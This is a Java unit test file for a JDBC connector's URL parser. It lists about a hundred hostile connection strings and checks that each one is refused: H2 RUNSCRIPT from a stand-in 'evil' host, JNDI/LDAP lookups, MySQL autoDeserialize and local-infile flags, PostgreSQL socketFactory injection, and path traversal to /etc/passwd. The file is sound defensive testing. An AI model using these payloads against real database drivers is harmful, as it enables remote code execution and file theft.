package dev.onggi.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.onggi.spi.Failure;
import dev.onggi.testkit.FakeStep;
import dev.onggi.testkit.RecordedRows;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AddressParserTest {
    @TempDir Path outside;
    private Path workspace;

    @BeforeEach
    void makeWorkspace() throws Exception {
        workspace = Files.createDirectory(outside.resolve("workspace"));
        Files.createDirectory(workspace.resolve(".onggi"));
        Files.createDirectory(workspace.resolve("data"));
        Files.writeString(outside.resolve("secret.db"), "x");
        Files.createSymbolicLink(workspace.resolve("link.db"), outside.resolve("secret.db"));
        Files.createSymbolicLink(workspace.resolve("door"), outside);
    }

    private Address parse(String url, String type) throws Failure {
        return new AddressParser(new DatabaseFiles(workspace, List.of())).parse(url, type);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:test;INIT=RUNSCRIPT/**/FROM'http://evil/x.sql'",
                "jdbc:h2:tcp://evil/test",
                "jdbc:hsqldb:mem:x",
                "jdbc:derby:memory:x;create=true",
                "jdbc:duckdb:/etc/passwd",
                "jdbc:oracle:thin:@evil:1521/x",
                "jdbc:sqlserver://evil;databaseName=x",
                "jdbc:db2://evil:50000/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:ibm:x",
                "jdbc:snowflake://evil/?x=1",
                "ldap://evil/x",
                "rmi://evil/x",
                "java:comp/env/jdbc/x",
                "",
                "jdbc:",
                "postgresql:shop",
                "jdbc:postgresql://",
                "jdbc:postgresql://host",
                "jdbc:postgresql://host/",
                "jdbc:postgresql:///db",
                "jdbc:postgresql://host:0/db",
                "jdbc:postgresql://host:99999/db",
                "jdbc:postgresql://host:x/db",
                "jdbc:postgresql://a,b/db",
                "jdbc:postgresql://user:pw@host/db",
                "jdbc:postgresql://host/db?socketFactory=evil.Factory",
                "jdbc:postgresql://host/db?SOCKETFACTORY=evil.Factory",
                "jdbc:postgresql://host/db?socket%46actory=evil.Factory",
                "jdbc:postgresql://host/db?socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://host/db?sslmode=require&sslfactory=evil.Factory",
                "jdbc:postgresql://host/db?sslfactoryarg=x",
                "jdbc:postgresql://host/db?sslhostnameverifier=evil.V",
                "jdbc:postgresql://host/db?sslpasswordcallback=evil.C",
                "jdbc:postgresql://host/db?authenticationPluginClassName=evil.P",
                "jdbc:postgresql://host/db?xmlFactoryFactory=evil.X",
                "jdbc:postgresql://host/db?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://host/db?loggerFile=../x",
                "jdbc:postgresql://host/db?service=evil",
                "jdbc:postgresql://host/db?sslkey=/etc/shadow",
                "jdbc:postgresql://host/db?sslrootcert=/etc/passwd",
                "jdbc:postgresql://host/db?sslrootcert=../secret.db",
                "jdbc:postgresql://host/db?jaasApplicationName=x",
                "jdbc:postgresql://host/db?gsslib=sspi",
                "jdbc:postgresql://host/db?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql://host/db?user=a&password=b",
                "jdbc:postgresql://host/db?connectExecutor=evil",
                "jdbc:postgresql://host/db?classLoaderStrategy=x",
                "jdbc:postgresql://host/db?sslmode=evil",
                "jdbc:postgresql://host/db?sslmode=disable&sslmode=require",
                "jdbc:postgresql://host/db?unknown=1",
                "jdbc:postgresql://host/db?connectTimeout=-1",
                "jdbc:postgresql://host/db?%zz=1",
                "jdbc:postgresql://host/db#?socketFactory=x",
                "jdbc:postgresql://host/db ?x=1",
                "jdbc:postgresql://host/db\n?x=1",
                "jdbc:postgresql://host/..%2F..%2Fetc",
                "jdbc:postgresql://host/db%3FsocketFactory=x",
                "jdbc:postgresql://ho%73t/db",
                "jdbc:postgresql://ho_st;x/db",
                "jdbc:postgresql:replication://host/db",
                "JDBC:POSTGRESQL://host/db",
                "jdbc:mariadb://host/db?allowLocalInfile=true",
                "jdbc:mysql://host/db?allowLoadLocalInfile=true",
                "jdbc:mysql://host/db?allowUrlInLocalInfile=true",
                "jdbc:mysql://host/db?allowLoadLocalInfileInPath=/",
                "jdbc:mysql://host/db?autoDeserialize=true",
                "jdbc:mysql://host/db?autoDeserialize=yes&queryInterceptors=com.mysql.cj.jdbc.x",
                "jdbc:mysql://host/db?statementInterceptors=x",
                "jdbc:mysql://host/db?detectCustomCollations=true",
                "jdbc:mysql://host/db?propertiesTransform=x",
                "jdbc:mysql://address=(host=evil)(allowLoadLocalInfile=true)/db",
                "jdbc:mysql://(host=evil,autoDeserialize=true)/db",
                "jdbc:mysql:loadbalance://a,b/db",
                "jdbc:mysql+srv://host/db",
                "jdbc:mariadb:replication://a,b/db",
                "jdbc:mariadb://host/db?allowMultiQueries=true",
                "jdbc:mariadb://host/db?sessionVariables=x=1",
                "jdbc:mariadb://host/db?initSql=x",
                "jdbc:mariadb://host/db?credentialType=x",
                "jdbc:mariadb://host/db?socketFactory=x",
                "jdbc:mariadb://host/db?tlsSocketType=x",
                "jdbc:mariadb://host/db?trustStore=http://evil/x",
                "jdbc:mariadb://host/db?keyStore=/x",
                "jdbc:mariadb://host/db?serverRsaPublicKeyFile=/etc/passwd",
                "jdbc:mariadb://host/db?pipe=x",
                "jdbc:mariadb://host/db?localSocket=/x",
                "jdbc:mariadb://host/db?dumpQueriesOnException=true",
                "jdbc:mariadb://host/db?createDatabaseIfNotExist=true",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:",
                "jdbc:sqlite:file:x.db?mode=memory",
                "jdbc:sqlite:FILE:x.db",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:sqlite:../secret.db",
                "jdbc:sqlite:data/../../secret.db",
                "jdbc:sqlite:link.db",
                "jdbc:sqlite:door/secret.db",
                "jdbc:sqlite:door/new.db",
                "jdbc:sqlite:.onggi/onggi.db",
                "jdbc:sqlite:data/../.onggi/onggi.db",
                "jdbc:sqlite://evil/share/x.db",
                "jdbc:sqlite:no/such/folder/x.db",
                "jdbc:sqlite:%2e%2e/secret.db"
            })
    void hostileUrlsAreRefusedBeforeAnyConnection(String url) {
        var failure = catchThrowableOfType(Failure.class, () -> parse(url, ""));

        assertThat(failure).isNotNull();
        assertThat(failure.blame()).isEqualTo(Failure.Blame.USER);
        assertThat(failure.retryable()).isFalse();
        assertThat(failure.hint()).isNotBlank();
    }

    @Test
    void theSourceRefusesThemToo() {
        var step =
                new FakeStep(workspace)
                        .with("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT")
                        .with("table", "t");

        assertThatExceptionOfType(Failure.class)
                .isThrownBy(() -> new JdbcSource().collect(step, new RecordedRows()))
                .withMessageContaining("refused");
    }

    @Test
    void plainUrlsAreTakenApart() throws Exception {
        assertThat(parse("jdbc:postgresql://db.shop.example:5433/shop?sslmode=require", ""))
                .isEqualTo(
                        new Address.Server(
                                new PostgresDialect(),
                                "db.shop.example",
                                5433,
                                "shop",
                                Map.of("sslmode", "require")));
        assertThat(parse("postgres://[::1]/%EC%83%81%EC%A0%90", "postgresql"))
                .isEqualTo(
                        new Address.Server(new PostgresDialect(), "[::1]", 5432, "상점", Map.of()));
        assertThat(parse("mysql://10.0.0.1/shop?SSLMODE=trust", "mariadb"))
                .isEqualTo(
                        new Address.Server(
                                new MariaDbDialect(),
                                "10.0.0.1",
                                3306,
                                "shop",
                                Map.of("sslMode", "trust")));
    }

    @Test
    void aUrlMayLeaveItsKindToTheType() throws Exception {
        assertThat(parse("localhost:5432/shop", "postgresql").dialect())
                .isEqualTo(new PostgresDialect());
        assertThat(parse("data/shop.db", "sqlite").dialect()).isEqualTo(new SqliteDialect());
    }

    @Test
    void typeAndUrlMustAgree() {
        assertThatExceptionOfType(Failure.class)
                .isThrownBy(() -> parse("postgresql://h/d", "mysql"))
                .withMessageContaining("type: mysql");
    }

    @Test
    void filesOfTheWorkspaceAndOfAllowedFoldersAreOpened() throws Exception {
        var home = workspace.toRealPath();
        assertThat(parse("sqlite:data/shop.db", ""))
                .isEqualTo(
                        new Address.File(
                                new SqliteDialect(), home.resolve("data/shop.db"), "data/shop.db"));
        var allowed = new DatabaseFiles(workspace, List.of(outside));
        assertThat(allowed.resolve("../secret.db"))
                .isEqualTo(outside.toRealPath().resolve("secret.db"));
    }

    @Test
    void aCertificateOfTheWorkspaceMayBeNamed() throws Exception {
        Files.writeString(workspace.resolve("ca.pem"), "x");

        var address = (Address.Server) parse("postgresql://h/d?sslrootcert=ca.pem", "");

        assertThat(address.properties())
                .containsEntry("sslrootcert", workspace.toRealPath().resolve("ca.pem").toString());
    }

    @Test
    void whyAPropertyIsDangerousIsSaid() {
        assertThatExceptionOfType(Failure.class)
                .isThrownBy(() -> parse("mysql://h/d?autoDeserialize=true", ""))
                .withMessageContaining("lets the server run code here");
    }
}
